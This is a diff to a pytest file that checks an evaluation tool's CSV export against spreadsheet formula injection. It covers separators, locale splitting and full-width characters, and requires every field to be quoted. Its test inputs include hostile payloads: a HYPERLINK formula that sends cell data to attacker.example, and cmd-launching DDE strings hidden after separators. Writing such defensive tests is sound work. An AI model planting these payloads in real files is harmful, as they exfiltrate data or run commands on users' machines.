@@ -1,14 +1,25 @@
 """CSV exports are opened in spreadsheets: text that a spreadsheet would run as a formula
-(model output, a grader's error message) must arrive as text."""
+(model output, a grader's error message) must arrive as text, also where a spreadsheet in
+another locale splits a cell (``;``, ``|``, tabs), and every field is quoted."""
 
 from __future__ import annotations
 
 import csv
 import io
+import re
 
 import pytest
 
 from evalkube.reporting.export import csv_row, write_csv
+
+STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def runnable_pieces(cell: str) -> list[str]:
+    """The pieces of a cell, split where a spreadsheet may split it, that it would run."""
+    pieces = [p.lstrip(" ") for p in re.split(r"[,;\t|\r\n]", cell)]
+    return [p for p in pieces if p.startswith(STARTS) and not re.fullmatch(r"[+-]?[\d.]+", p)]
+
 
 HOSTILE = [
     '=HYPERLINK("http://attacker.example/?q="&A1,"click")',
@@ -33,7 +44,40 @@ def test_a_formula_in_model_output_or_an_error_is_written_as_text(text: str) -> 
     write_csv([view], out, ["em"])
     row = next(csv.DictReader(io.StringIO(out.getvalue())))
     for column in ("output_text", "target", "error_message"):
-        assert row[column] == "'" + text, column
+        assert row[column].startswith("'"), column
+        assert row[column].replace("'", "") == text.replace("'", ""), column
+        assert runnable_pieces(row[column]) == [], column
+
+
+AFTER_SEPARATORS = [
+    'total;=HYPERLINK("http://attacker.example/?q="&A1,"click")',
+    "ok, +cmd|' /C calc'!A0",
+    "a|@SUM(1+1)*cmd|' /C calc'!A0",
+    "x\t=1+1",
+    "line one\n-2+3+cmd|' /C calc'!A0",
+    "fine;   =1+1",
+    "\uff1dHYPERLINK(1)",
+]
+
+
+@pytest.mark.parametrize("text", AFTER_SEPARATORS)
+def test_a_formula_after_a_separator_is_written_as_text(text: str) -> None:
+    out = io.StringIO()
+    write_csv([{"sample_id": "s1", "output_text": text, "judge": {"note": text}}], out, [])
+    row = next(csv.DictReader(io.StringIO(out.getvalue())))
+    for column in ("output_text", "judge"):
+        assert runnable_pieces(row[column]) == [], (column, row[column])
+    assert row["output_text"].replace("'", "") == text.replace("'", "")
+
+
+def test_every_field_is_quoted() -> None:
+    out = io.StringIO()
+    write_csv([{"sample_id": "s1", "status": "valid", "scores": {"em": 1.0}}], out, ["em"])
+    for line in out.getvalue().splitlines():
+        fields = line.split('","')
+        assert line.startswith('"'), line
+        assert line.endswith('"'), line
+        assert len(fields) > 10
 
 
 @pytest.mark.parametrize("number", ["-3", "+1.5e3", "-0.25", "42", "-.5"])
